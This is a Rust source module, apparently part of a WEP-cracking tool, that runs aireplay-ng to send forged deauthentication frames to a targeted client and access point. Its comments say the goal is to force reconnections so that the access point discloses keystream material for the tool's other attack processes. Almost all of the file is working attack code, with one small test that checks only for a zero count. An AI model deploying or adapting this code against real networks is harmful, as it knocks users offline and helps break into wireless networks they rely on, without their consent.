//! Station deauthentication
//!
//! Forged deauthentication frames disconnect an associated client, which is
//! used here to provoke reconnection traffic: a re-authenticating client
//! makes the access point disclose keystream material, and some clients
//! flush their ARP cache when disconnected. Sent fire-and-forget; unlike
//! the four attack processes, this invocation is not supervised.

use std::process::Stdio;

use tokio::process::Command;
use tracing::debug;

use wepraid_core::{Error, Result, WirelessInterface, WirelessStation};

/// Send `count` deauthentication series to `station` (each series is 64
/// frames, sent by the tool itself). `count` must be positive.
pub async fn deauthenticate(
    interface: &WirelessInterface,
    station: &WirelessStation,
    count: u32,
) -> Result<()> {
    if count == 0 {
        return Err(Error::invalid_parameter(
            "count",
            "deauthentication count must be a positive integer",
        ));
    }

    let argv = [
        "--deauth".to_string(),
        count.to_string(),
        "-a".to_string(),
        station.bssid.to_string(),
        "-c".to_string(),
        station.mac_address.to_string(),
        interface.name.clone(),
    ];
    let status = Command::new("aireplay-ng")
        .args(&argv)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status()
        .await
        .map_err(|source| Error::Spawn {
            command: format!("aireplay-ng --deauth {count}"),
            source,
        })?;

    debug!(
        station = %station.mac_address,
        bssid = %station.bssid,
        success = status.success(),
        "deauthentication sent"
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use wepraid_core::MacAddr;

    #[tokio::test]
    async fn test_zero_count_is_rejected() {
        let iface = WirelessInterface::new(
            "wlan0mon",
            MacAddr([0x00, 0x36, 0x76, 0x54, 0xb2, 0x95]),
        );
        let station = WirelessStation::new(
            MacAddr([0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0xff]),
            -40,
            MacAddr([0x00, 0x11, 0x22, 0x33, 0x44, 0x55]),
        );
        match deauthenticate(&iface, &station, 0).await {
            Err(Error::InvalidParameter { name, .. }) => assert_eq!(name, "count"),
            other => panic!("expected invalid parameter error, got {other:?}"),
        }
    }
}
